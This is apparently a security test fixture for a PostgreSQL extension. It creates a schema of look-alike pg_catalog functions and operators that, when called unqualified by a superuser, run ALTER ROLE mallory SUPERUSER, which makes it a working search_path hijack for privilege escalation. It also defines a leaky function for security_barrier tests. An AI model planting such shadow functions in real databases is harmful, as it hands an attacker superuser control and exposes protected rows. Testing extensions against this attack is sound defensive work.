-- Run by tests/security.sh as mallory (an unprivileged role with CREATE on the database).
--
-- Schema mal: look-alikes of pg_catalog functions and operators that extension code might call
-- unqualified. Each one, when it runs as a superuser (current_user with rolsuper, or is_superuser
-- on), raises WARNING 'EVIL as ...' (the server log keeps WARNINGs), records the event in
-- mal.evil_log and runs ALTER ROLE mallory SUPERUSER; then it returns what pg_catalog's would. As
-- mallory herself it does nothing but delegate (no subtransaction, no side effect), so her own
-- queries behave as usual under `SET search_path = mal, public, pg_catalog`.
--
-- Also mal.leak(text): the classic leaky "cheap" function for security_barrier tests, and
-- mal.blobs, where mallory keeps adapters she exported.

CREATE SCHEMA mal;
CREATE TABLE mal.evil_log (at timestamptz DEFAULT pg_catalog.clock_timestamp(), what text, usr text);
CREATE TABLE mal.blobs (name text PRIMARY KEY, data bytea NOT NULL);

CREATE FUNCTION mal.evil(what text) RETURNS void
LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp AS $$
DECLARE
    su boolean;
BEGIN
    su := pg_catalog.current_setting('is_superuser') OPERATOR(pg_catalog.=) 'on'
          OR EXISTS (SELECT FROM pg_catalog.pg_roles r
                     WHERE r.rolname OPERATOR(pg_catalog.=) current_user AND r.rolsuper);
    IF NOT su THEN
        RETURN;
    END IF;
    RAISE WARNING 'EVIL as % (superuser) via %', current_user, what;
    BEGIN
        INSERT INTO mal.evil_log (what, usr) VALUES (what, current_user);
    EXCEPTION WHEN OTHERS THEN
        RAISE WARNING 'EVIL could not log: %', SQLERRM;
    END;
    BEGIN
        EXECUTE 'ALTER ROLE mallory SUPERUSER';
        RAISE WARNING 'EVIL made mallory a superuser';
    EXCEPTION WHEN OTHERS THEN
        RAISE WARNING 'EVIL could not escalate: %', SQLERRM;
    END;
END $$;

-- Look-alike functions: mal.NAME(ARGS) RETURNS RET, delegating to pg_catalog.NAME. A signature
-- PL/pgSQL cannot take is skipped with a NOTICE (the script goes on).
DO $do$
DECLARE
    f record;
    params text;
    body text;
    n int;
BEGIN
    FOR f IN SELECT * FROM (VALUES
        ('now', '', 'timestamptz'),
        ('clock_timestamp', '', 'timestamptz'),
        ('statement_timestamp', '', 'timestamptz'),
        ('transaction_timestamp', '', 'timestamptz'),
        ('format', 'text', 'text'),
        ('format', 'text,text', 'text'),
        ('format', 'text,text,text', 'text'),
        ('quote_literal', 'text', 'text'),
        ('quote_ident', 'text', 'text'),
        ('quote_nullable', 'text', 'text'),
        ('jsonb_build_object', 'text,text', 'jsonb'),
        ('jsonb_build_object', 'text,text,text,text', 'jsonb'),
        ('jsonb_build_object', 'text,jsonb', 'jsonb'),
        ('to_jsonb', 'anyelement', 'jsonb'),
        ('to_json', 'anyelement', 'json'),
        ('jsonb_typeof', 'jsonb', 'text'),
        ('jsonb_array_length', 'jsonb', 'integer'),
        ('pg_has_role', 'name,name,text', 'boolean'),
        ('pg_has_role', 'name,oid,text', 'boolean'),
        ('pg_has_role', 'name,regrole,text', 'boolean'),
        ('pg_has_role', 'oid,oid,text', 'boolean'),
        ('pg_has_role', 'oid,name,text', 'boolean'),
        ('pg_has_role', 'oid,regrole,text', 'boolean'),
        ('pg_has_role', 'name,text', 'boolean'),
        ('pg_has_role', 'oid,text', 'boolean'),
        ('has_table_privilege', 'text,text', 'boolean'),
        ('has_table_privilege', 'name,text,text', 'boolean'),
        ('has_function_privilege', 'text,text', 'boolean'),
        ('gen_random_uuid', '', 'uuid'),
        ('current_setting', 'text', 'text'),
        ('current_setting', 'text,boolean', 'text'),
        ('set_config', 'text,text,boolean', 'text'),
        ('to_regclass', 'text', 'regclass'),
        ('to_regrole', 'text', 'regrole'),
        ('to_regproc', 'text', 'regproc'),
        ('to_regprocedure', 'text', 'regprocedure'),
        ('pg_backend_pid', '', 'integer'),
        ('current_database', '', 'name'),
        ('pg_get_userbyid', 'oid', 'name'),
        ('lower', 'text', 'text'),
        ('upper', 'text', 'text'),
        ('length', 'text', 'integer'),
        ('length', 'bytea', 'integer'),
        ('octet_length', 'text', 'integer'),
        ('octet_length', 'bytea', 'integer'),
        ('btrim', 'text', 'text'),
        ('substr', 'text,integer,integer', 'text'),
        ('left', 'text,integer', 'text'),
        ('replace', 'text,text,text', 'text'),
        ('split_part', 'text,text,integer', 'text'),
        ('starts_with', 'text,text', 'boolean'),
        ('md5', 'text', 'text'),
        ('encode', 'bytea,text', 'text'),
        ('decode', 'text,text', 'bytea'),
        ('random', '', 'double precision'),
        ('nextval', 'regclass', 'bigint'),
        ('txid_current', '', 'bigint'),
        ('pg_advisory_xact_lock', 'bigint', 'void'),
        ('pg_try_advisory_xact_lock', 'bigint', 'boolean'),
        ('pg_notify', 'text,text', 'void'),
        ('pg_cancel_backend', 'integer', 'boolean'),
        ('pg_terminate_backend', 'integer', 'boolean'),
        ('pg_sleep', 'double precision', 'void'),
        ('array_length', 'anyarray,integer', 'integer'),
        ('array_to_string', 'anyarray,text', 'text'),
        ('string_to_array', 'text,text', 'text[]'),
        ('date_part', 'text,timestamptz', 'double precision')
    ) AS t(name, args, ret)
    LOOP
        n := CASE WHEN f.args = '' THEN 0 ELSE array_length(string_to_array(f.args, ','), 1) END;
        params := (SELECT coalesce(string_agg('$' || i, ', '), '') FROM generate_series(1, n) i);
        IF f.ret = 'void' THEN
            body := format('BEGIN PERFORM mal.evil(%L); PERFORM pg_catalog.%I(%s); END',
                           f.name || '(' || f.args || ')', f.name, params);
        ELSE
            body := format('BEGIN PERFORM mal.evil(%L); RETURN pg_catalog.%I(%s); END',
                           f.name || '(' || f.args || ')', f.name, params);
        END IF;
        BEGIN
            EXECUTE format('CREATE FUNCTION mal.%I(%s) RETURNS %s LANGUAGE plpgsql AS %L',
                           f.name, f.args, f.ret, body);
        EXCEPTION WHEN OTHERS THEN
            RAISE NOTICE 'skipped mal.%(%): %', f.name, f.args, SQLERRM;
        END;
    END LOOP;
END $do$;

-- Look-alike operators: mal.OP(LEFT, RIGHT), each through a function mal.op_N.
DO $do$
DECLARE
    o record;
    i int := 0;
BEGIN
    FOR o IN SELECT * FROM (VALUES
        ('=', 'text', 'text', 'boolean'), ('<>', 'text', 'text', 'boolean'), ('||', 'text', 'text', 'text'),
        ('>=', 'text', 'text', 'boolean'), ('<', 'text', 'text', 'boolean'), ('<=', 'text', 'text', 'boolean'),
        ('>', 'text', 'text', 'boolean'), ('~~', 'text', 'text', 'boolean'), ('~', 'text', 'text', 'boolean'),
        ('=', 'integer', 'integer', 'boolean'), ('<>', 'integer', 'integer', 'boolean'),
        ('+', 'integer', 'integer', 'integer'), ('-', 'integer', 'integer', 'integer'),
        ('>=', 'integer', 'integer', 'boolean'), ('<', 'integer', 'integer', 'boolean'),
        ('<=', 'integer', 'integer', 'boolean'), ('>', 'integer', 'integer', 'boolean'),
        ('=', 'bigint', 'bigint', 'boolean'), ('<>', 'bigint', 'bigint', 'boolean'),
        ('+', 'bigint', 'bigint', 'bigint'), ('>=', 'bigint', 'bigint', 'boolean'),
        ('<', 'bigint', 'bigint', 'boolean'), ('>', 'bigint', 'bigint', 'boolean'),
        ('=', 'jsonb', 'jsonb', 'boolean'), ('||', 'jsonb', 'jsonb', 'jsonb'), ('@>', 'jsonb', 'jsonb', 'boolean'),
        ('->>', 'jsonb', 'text', 'text'), ('->', 'jsonb', 'text', 'jsonb'), ('?', 'jsonb', 'text', 'boolean'),
        ('=', 'oid', 'oid', 'boolean'), ('<>', 'oid', 'oid', 'boolean'),
        ('=', 'name', 'name', 'boolean'), ('=', 'name', 'text', 'boolean'),
        ('=', 'boolean', 'boolean', 'boolean'),
        ('<', 'timestamptz', 'timestamptz', 'boolean'), ('>', 'timestamptz', 'timestamptz', 'boolean'),
        ('-', 'timestamptz', 'timestamptz', 'interval'), ('+', 'timestamptz', 'interval', 'timestamptz'),
        ('+', 'double precision', 'double precision', 'double precision'),
        ('*', 'double precision', 'double precision', 'double precision'),
        ('/', 'double precision', 'double precision', 'double precision'),
        ('<', 'double precision', 'double precision', 'boolean')
    ) AS t(op, l, r, ret)
    LOOP
        i := i + 1;
        BEGIN
            EXECUTE format('CREATE FUNCTION mal.op_%s(%s, %s) RETURNS %s LANGUAGE plpgsql AS %L',
                           i, o.l, o.r, o.ret,
                           format('BEGIN PERFORM mal.evil(%L); RETURN $1 OPERATOR(pg_catalog.%s) $2; END',
                                  o.l || ' ' || o.op || ' ' || o.r, o.op));
            EXECUTE format('CREATE OPERATOR mal.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = mal.op_%s)',
                           o.op, o.l, o.r, i);
        EXCEPTION WHEN OTHERS THEN
            RAISE NOTICE 'skipped operator mal.% (%, %): %', o.op, o.l, o.r, SQLERRM;
        END;
    END LOOP;
END $do$;

-- The leaky function of a security_barrier test: "free" to call, so a planner without the barrier
-- runs it before the view's own filter, on rows the caller may not see.
CREATE FUNCTION mal.leak(text) RETURNS boolean LANGUAGE plpgsql COST 0.0000001 AS $$
BEGIN
    RAISE NOTICE 'leak: %', $1;
    RETURN true;
END $$;

-- What was created (the shell script prints it).
SELECT 'mal: ' || (SELECT count(*) FROM pg_catalog.pg_proc p JOIN pg_catalog.pg_namespace s ON s.oid = p.pronamespace
                   WHERE s.nspname = 'mal') || ' functions, '
               || (SELECT count(*) FROM pg_catalog.pg_operator o JOIN pg_catalog.pg_namespace s ON s.oid = o.oprnamespace
                   WHERE s.nspname = 'mal') || ' operators';
